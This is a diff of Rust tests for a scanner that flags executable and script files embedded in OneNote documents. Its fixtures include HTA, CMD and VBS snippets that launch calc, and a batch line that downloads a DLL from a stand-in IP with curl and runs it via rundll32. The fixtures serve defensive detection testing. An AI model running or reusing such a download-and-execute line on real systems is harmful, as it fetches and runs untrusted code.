@@ -265,6 +265,17 @@ fn onenote_holding_hta_is_dangerous() {
 }
 
 #[test]
+fn onenote_recorded_extensions_win() {
+    let hta: &[u8] = b"<script>new ActiveXObject('WScript.Shell').Run('calc')</script>";
+    let cmd: &[u8] = b"start calc\r\n";
+    let r = check(&carriergen::onenote_named(&[(".hta", hta), (".CMD", cmd), (".txt", TEXT)]), "n.one");
+    assert_eq!(r.verdict, Verdict::Dangerous);
+    assert_eq!(evidence(&r, "onenote.embedded_file"), "3 embedded files (hta, cmd, txt)");
+    let ex = at(&r, "file.executable");
+    assert_eq!(ex, vec!["n.one > embedded-1.hta", "n.one > embedded-2.cmd"]);
+}
+
+#[test]
 fn onenote_scripts_by_content() {
     let bat: &[u8] = b"@echo off\r\ncurl -o %TEMP%\\a.dll http://192.0.2.1/a\r\nrundll32 %TEMP%\\a.dll,Go\r\n";
     let vbs: &[u8] = b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n";
@@ -370,8 +381,8 @@ fn corpus_strelka_carriers() {
     let docx = std::fs::read(f.join("test.docx")).unwrap();
     assert_eq!(s.objects[0].data, &docx[..]);
     let r = run_safely(&b, "test.one");
-    assert_eq!(evidence(&r, "onenote.embedded_file"), "2 embedded files (zip, png)");
-    assert!(objects(&r).contains(&"test.one > embedded-1.zip".to_string()));
+    assert_eq!(evidence(&r, "onenote.embedded_file"), "2 embedded files (docx, png)");
+    assert!(objects(&r).contains(&"test.one > embedded-1.docx".to_string()), "{:?}", objects(&r));
     assert!(r.complete, "{:#?}", r.findings);
     println!("strelka test.one: {}", evidence(&r, "onenote.embedded_file"));
 
